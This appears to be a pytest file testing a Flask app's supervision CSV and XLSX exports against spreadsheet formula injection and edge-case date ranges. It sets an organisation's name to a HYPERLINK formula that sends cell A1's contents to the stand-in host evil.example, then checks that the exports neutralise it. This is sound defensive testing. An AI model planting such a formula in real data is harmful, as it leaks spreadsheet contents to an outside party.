"""The supervision exports and period against hostile input: cells that spreadsheets would run, dates at the edge."""

from __future__ import annotations

import csv
import io

from flask.testing import FlaskClient
from openpyxl import load_workbook
from sqlalchemy import update

from engine.runtime.runtime import Runtime
from engine.store.models import Organisation
from tests.support.http import log_in

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"点此")'
MARCH = "from=2026-03-01&to=2026-03-31"


def _rename_enterprise(runtime: Runtime, name: str) -> None:
    with runtime.db.write() as s:
        s.execute(update(Organisation).where(Organisation.code == "ent_haiyun").values(name=name))


def test_csv_cells_that_start_a_formula_are_quoted_as_text(client: FlaskClient, runtime: Runtime,
                                                           cases: dict[str, int]) -> None:
    _rename_enterprise(runtime, FORMULA)
    log_in(client, "dispatcher")
    reply = client.get(f"/supervision/export.csv?{MARCH}")
    rows = list(csv.reader(io.StringIO(reply.get_data().decode("utf-8-sig"))))
    cells = [cell for row in rows for cell in row]
    assert "'" + FORMULA in cells
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]


def test_xlsx_cells_from_names_are_text_never_formulas(client: FlaskClient, runtime: Runtime,
                                                       cases: dict[str, int]) -> None:
    _rename_enterprise(runtime, FORMULA)
    log_in(client, "inspector")
    book = load_workbook(io.BytesIO(client.get(f"/supervision/export.xlsx?{MARCH}").get_data()))
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert FORMULA in [c.value for c in cells]  # kept as the name reads, stored as a string


def test_a_period_at_the_last_day_python_knows_is_not_a_500(client: FlaskClient, cases: dict[str, int]) -> None:
    log_in(client, "dispatcher")
    for query in ("from=9999-12-31&to=9999-12-31", "from=0001-01-01&to=9999-12-31", "from=2026-02-30&to=x",
                  "from=2026-03-01&to=2026-03-31T00:00"):
        for path in ("/supervision", "/supervision/export.csv", "/supervision/export.xlsx"):
            assert client.get(f"{path}?{query}").status_code == 200, (path, query)
